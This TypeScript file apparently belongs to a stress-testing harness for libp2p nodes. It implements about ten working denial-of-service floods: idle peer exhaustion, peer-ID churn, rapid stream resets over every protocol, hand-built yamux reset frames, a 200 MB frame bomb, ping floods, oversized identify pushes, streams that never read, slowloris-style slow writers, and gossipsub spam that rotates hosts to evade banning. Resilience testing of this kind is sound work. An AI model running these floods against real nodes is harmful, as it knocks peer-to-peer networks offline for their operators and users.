import { setTimeout as delay } from 'node:timers/promises'
import { again, atRate, connectPeer, type HostilePeer, MESHSUB, openStream, push } from '../peer.ts'
import { field, framed } from '../protobuf.ts'
import type { Flood, FloodContext } from '../types.ts'

const IDLE = 400
/** Enough to keep the attackers' processor busy while each waits for answers. */
const SIDE_BY_SIDE = 24

/** Peers that connect, identify and do nothing more. */
export const idle: Flood = async (context) => {
  let index = 0
  const peers = new Set<HostilePeer>()
  await sideBySide(context, async () => {
    if (peers.size >= IDLE) return
    const peer = await connectPeer(context, context.host(index++))
    context.count('connected')
    peers.add(peer)
    peer.libp2p.addEventListener('peer:disconnect', () => peers.delete(peer))
  })
}

/** A new peer ID with each connection, as fast as the node takes them. */
export const peerIds: Flood = async (context) => {
  let index = 0
  await sideBySide(
    context,
    async () => {
      const { libp2p } = await connectPeer(context, context.host(index++), { protocols: [] })
      context.count('peer IDs')
      // Time enough for identify, then the next one.
      await delay(30)
      void libp2p.stop()
    },
    0,
  )
}

/** Streams that open and are reset at once, over every protocol. */
export const rapidReset: Flood = async (context) => {
  const protocols = await protocolsOf(context)
  let hosts = 0
  await sideBySide(context, async () => {
    const peer = await connectPeer(context, context.host(hosts++))
    context.count('connections')
    let index = 0
    await atRate(context.signal, 2000, async () => {
      if (peer.connection.status !== 'open') return false
      const protocol = protocols[index++ % protocols.length] ?? ''
      // Not awaited: the reset follows the request on its heels.
      openStream(peer, protocol).then((stream) => stream?.abort(new Error('reset')))
      context.count('streams')
      return true
    })
  })
}

/** The same beneath: frames that open a stream and frames that reset it, without a word in it. */
export const frameReset: Flood = async (context) => {
  let hosts = 0
  await sideBySide(context, async () => {
    const peer = await connectPeer(context, context.host(hosts++))
    context.count('connections')
    let id = 1_000_001
    const some = async (wanted: number) => {
      const pairs = Array.from({ length: wanted }, () => {
        id += 2
        return Buffer.concat([frame(1, 1, id, 0), frame(1, 8, id, 0)])
      })
      context.count('streams', wanted)
      return push(peer.raw, Buffer.concat(pairs))
    }
    await atRate(context.signal, 5000, some, 50)
  })
}

/** Frames of the muxer that promise 200 MB, behind a handshake. */
export const frameBomb: Flood = async (context) => {
  let hosts = 0
  await sideBySide(context, async () => {
    const peer = await connectPeer(context, context.host(hosts++))
    const body = Buffer.alloc(64 * 1024, 1)
    await push(peer.raw, frame(0, 1, 1_000_001, 200_000_000))
    context.count('frames')
    while (!context.signal.aborted && (await push(peer.raw, body))) context.count('bytes', 65_536)
    await peer.libp2p.stop()
  })
}

/** Pings of the muxer and of the protocol, as fast as they are taken. */
export const pings: Flood = async (context) => {
  const { target, signal, count } = context
  let hosts = 0
  const connected = async () => {
    const peer = await connectPeer(context, context.host(hosts++))
    count('connections')
    return peer
  }
  const byMuxer = sideBySide(context, async () => {
    const peer = await connected()
    let id = 0
    const some = async (wanted: number) => {
      count('muxer pings', wanted)
      return push(
        peer.raw,
        Buffer.concat(Array.from({ length: wanted }, () => frame(2, 1, 0, id++))),
      )
    }
    await atRate(signal, 5000, some, 50)
  })
  const byProtocol = sideBySide(context, async () => {
    const peer = await connected()
    const stream = await openStream(peer, `/${target.networkName}/ping/1.0.0`)
    if (stream === null) return
    const some = async (wanted: number) => {
      count('pings', wanted)
      return push(stream, Buffer.alloc(32 * wanted, 9))
    }
    await atRate(signal, 5000, some, 50)
  })
  await Promise.all([byMuxer, byProtocol])
}

/** Identify pushes of 8 KiB with new addresses each time. */
export const identifyPushes: Flood = async (context) => {
  const { target, signal, count } = context
  let hosts = 0
  await sideBySide(context, async () => {
    const peer = await connectPeer(context, context.host(hosts++))
    let round = 0
    await atRate(signal, 200, async () => {
      const stream = await openStream(peer, `/${target.networkName}/id/push/1.0.0`)
      if (stream === null) return peer.connection.status === 'open'
      round += 1
      const addresses = Array.from({ length: 300 }, (_, i) =>
        field(2, Buffer.from([4, 9, round & 255, (i >> 8) & 255, i & 255, 6, 0x0f, 0xa2])),
      )
      const protocols = Array.from({ length: 100 }, (_, i) =>
        field(3, Buffer.from(`/made-up/${round}/${i}`)),
      )
      const isSent = await push(stream, framed(Buffer.concat([...addresses, ...protocols])))
      count('pushes')
      stream.close().catch(() => {})
      return isSent || peer.connection.status === 'open'
    })
  })
}

/** Asks much over every protocol and reads nothing: no stream, and then not even the socket. */
export const neverReads: Flood = async (context) => {
  const { count, signal } = context
  const protocols = (await protocolsOf(context)).filter((name) => !name.includes('push'))
  const requests = [
    // Peer exchange: { n: 32 }; kad-dht: FIND_NODE; ping, and whatever they make of it.
    framed(Buffer.from([0xa1, 0x61, 0x6e, 0x18, 0x20])),
    framed(Buffer.concat([Buffer.from([0x08, 4]), field(2, Buffer.alloc(32, 3))])),
    Buffer.alloc(32 * 64, 5),
  ]
  let index = 0
  await sideBySide(context, async () => {
    const peer = await connectPeer(context, context.host(index++ % 96), {
      onStream: (stream) => stream.pause(),
    })
    await atRate(signal, 100, async () => {
      index += 1
      const stream = await openStream(peer, protocols[index % protocols.length] ?? '')
      if (stream === null) return peer.connection.status === 'open'
      stream.pause()
      for (const request of requests) if (!(await push(stream, request))) break
      count('requests', requests.length)
      // Some streams later nothing is read at all.
      if (index % 40 === 0) peer.socket.pause()
      return peer.connection.status === 'open'
    })
  })
}

/**
 * Slow writers behind a handshake: on every protocol a message that promises 60 KB and gets a byte a second, and
 * beneath it a frame of the muxer that does the same.
 */
export const slowStreams: Flood = async (context) => {
  const { count, signal } = context
  const protocols = await protocolsOf(context)
  let hosts = 0
  await sideBySide(context, async () => {
    const peer = await connectPeer(context, context.host(hosts++))
    count('connections')
    for (const protocol of protocols) {
      const stream = await openStream(peer, protocol)
      if (stream === null) continue
      // 60 000 as a varint, then nothing of what it promises.
      await push(stream, Buffer.from([0xe0, 0xd4, 0x03]))
      count('streams')
      const timer = setInterval(() => {
        push(stream, Buffer.from([0x0a])).then((isSent) => isSent && count('bytes'))
      }, 1000)
      stream.addEventListener('close', () => clearInterval(timer), { once: true })
    }
    if (hosts % 2 === 0) await push(peer.raw, frame(0, 1, 1_000_001, 60_000))
    while (hosts % 2 === 0 && !signal.aborted && (await push(peer.raw, Buffer.of(1)))) {
      count('bytes')
      await delay(1000)
    }
  })
}

/**
 * Peer IDs of few hosts that each send what no peer may, until their host is kept out; then those of the next
 * hosts. What they send is the cheapest that is certain: messages of ten bytes on a topic nobody joined.
 */
export const shunnedIds: Flood = async (context) => {
  const { count, signal } = context
  const message = field(2, field(4, Buffer.from('theirs')))
  const rpc = framed(Buffer.concat(Array.from({ length: 100 }, () => message)))
  let host = 0
  const perHost = new Map<number, number>()
  await sideBySide(context, async () => {
    const mine = host
    try {
      const peer = await connectPeer(context, context.host(mine))
      count('peer IDs')
      const stream = await openStream(peer, MESHSUB)
      for (let i = 0; i < 150 && stream !== null && !signal.aborted; i++) {
        if (!(await push(stream, rpc))) break
        count('messages', 100)
      }
      // It hangs up when the node does, or a bit later.
      for (let i = 0; i < 20 && peer.connection.status === 'open'; i++) await delay(100)
      void peer.libp2p.stop()
    } finally {
      // A host that is kept out is given up; others are at hand.
      perHost.set(mine, (perHost.get(mine) ?? 0) + 1)
      if ((perHost.get(mine) ?? 0) >= 6 && mine === host) {
        host += 1
        count('hosts')
      }
    }
  })
}

/** What the node says it speaks; asked until it is told, or nothing when the round ends before. */
async function protocolsOf(context: FloodContext): Promise<string[]> {
  for (let host = 0; !context.signal.aborted; host++) {
    try {
      const { libp2p, connection } = await connectPeer(context, context.host(host))
      for (let i = 0; i < 100; i++) {
        const { protocols } = await libp2p.peerStore.get(connection.remotePeer)
        if (protocols.length > 0) {
          void libp2p.stop()
          return protocols
        }
        await delay(50)
      }
    } catch (error) {
      context.count(`failed (${error instanceof Error ? error.name : 'unknown'})`)
      await delay(250)
    }
  }
  return []
}

async function sideBySide(
  context: FloodContext,
  work: () => Promise<void>,
  pauseMs?: number,
): Promise<void> {
  await Promise.all(Array.from({ length: SIDE_BY_SIDE }, () => again(context, work, pauseMs)))
}

/** Twelve bytes before each frame of yamux. */
function frame(type: number, flags: number, stream: number, length: number): Buffer {
  const head = Buffer.alloc(12)
  head.writeUInt8(type, 1)
  head.writeUInt16BE(flags, 2)
  head.writeUInt32BE(stream, 4)
  head.writeUInt32BE(length, 8)
  return head
}
